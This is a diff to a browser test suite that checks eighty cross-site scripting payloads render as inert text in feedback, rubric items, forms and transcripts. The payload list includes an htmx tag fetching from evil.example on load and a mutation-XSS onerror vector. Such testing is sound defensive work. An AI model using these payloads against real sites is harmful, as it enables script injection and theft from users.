@@ -13,7 +13,7 @@ from tests.browser.conftest import Visit, elsewhere
 from tests.browser.pages import film
 from tests.browser.test_student import clip, until
 from tests.conftest import Cast
-from tests.evaluations.material import finish, hand_in, write_results
+from tests.evaluations.material import finish, hand_in, item_row, write_results
 
 pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]
 
@@ -40,24 +40,30 @@ DO = (
     "<b hx-get=//evil.example hx-trigger=load hx-on::load=alert(1)>x</b>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
 )
+FEEDBACK = "section[aria-labelledby=feedback-heading]"
 PAYLOADS = [leave + do for leave, do in product(LEAVE, DO)]
 
 
-def write_everywhere(submission: Submission) -> None:
-    """Each payload wherever a speech or form model, or a rating one, can put any."""
-    evaluation = write_results(submission, text=PAYLOADS[0])
-    evaluation.feedback = " ".join(PAYLOADS)
-    evaluation.suggestions = PAYLOADS
-    evaluation.model = PAYLOADS[3]
-    (score,) = evaluation.scores
-    evaluation.scores = [
-        {**score, "key": f"k{number}", "title": each, "why": each, "judged": each}
-        | {"evidence": [{"sentence": 1, "quote": each, "start": 1.0, "end": 2.0}]}
+def write_everywhere(submission: Submission, **evaluation: Any) -> None:
+    """Each payload wherever a speech or form model, a rating one, or the author of a rubric can put any."""
+    scores = [
+        {"key": f"k{number}", "title": each, "weight": 1, "score": 7.5, "items": items(number, each)}
         for number, each in enumerate(PAYLOADS)
     ]
-    evaluation.save()
+    written = {"feedback": " ".join(PAYLOADS), "suggestions": PAYLOADS, "model": PAYLOADS[3], "scores": scores}
+    write_results(submission, text=PAYLOADS[0], **{**written, **evaluation})
     Form.objects.filter(submission=submission).update(hobbies=PAYLOADS, experience=" ".join(PAYLOADS))
     Transcript.objects.filter(submission=submission).update(segments=[said(*each) for each in enumerate(PAYLOADS)])
+
+
+def items(number: int, text: str) -> list[dict[str, Any]]:
+    """One that was shown and one that was not; of some the quotes and the advice are in the feedback."""
+    quote = {"sentence": number, "quote": text, "start": 1.0, "end": 2.0}
+    points = 1 + number % 7
+    return [
+        item_row("yes", text, 1.0, points=points, sentences=[quote]),
+        item_row("no", text, 0.0, points=points, sentences=[quote] * (number % 2)),
+    ]
 
 
 def said(second: int, text: str) -> dict[str, Any]:
@@ -90,10 +96,16 @@ def test_eighty_payloads_are_words_and_nothing_else(ada: Visit, cast: Cast, site
     elsewhere(finish, first)  # now all of it is put into the open page
     expect(ada.page.get_by_role("heading", name="Scores")).to_be_visible()
     for _ in range(2):
-        assert shown(ada, "#results") == 80
+        assert shown(ada, ".criteria") == 80
         assert shown(ada, ".transcript") == 80
+        expect(ada.page.locator(FEEDBACK)).to_contain_text("You give your listeners")
         until(ada.page, "document.getElementById('player').textTracks[0]?.cues?.length > 40")
         ada.page.reload()
+
+    before = elsewhere(hand_in, cast.ada, cast.classroom, name="before.webm", content=clip().read_bytes()[:-1])
+    elsewhere(write_everywhere, before, method="levels", rubric=None)  # a model wrote the feedback itself
+    ada.page.goto(f"/submissions/{before.pk}/")
+    assert shown(ada, FEEDBACK) == 80
 
     elsewhere(cast.classroom.teachers.add, cast.ada)
     ada.page.goto(f"/classes/{cast.classroom.pk}/")
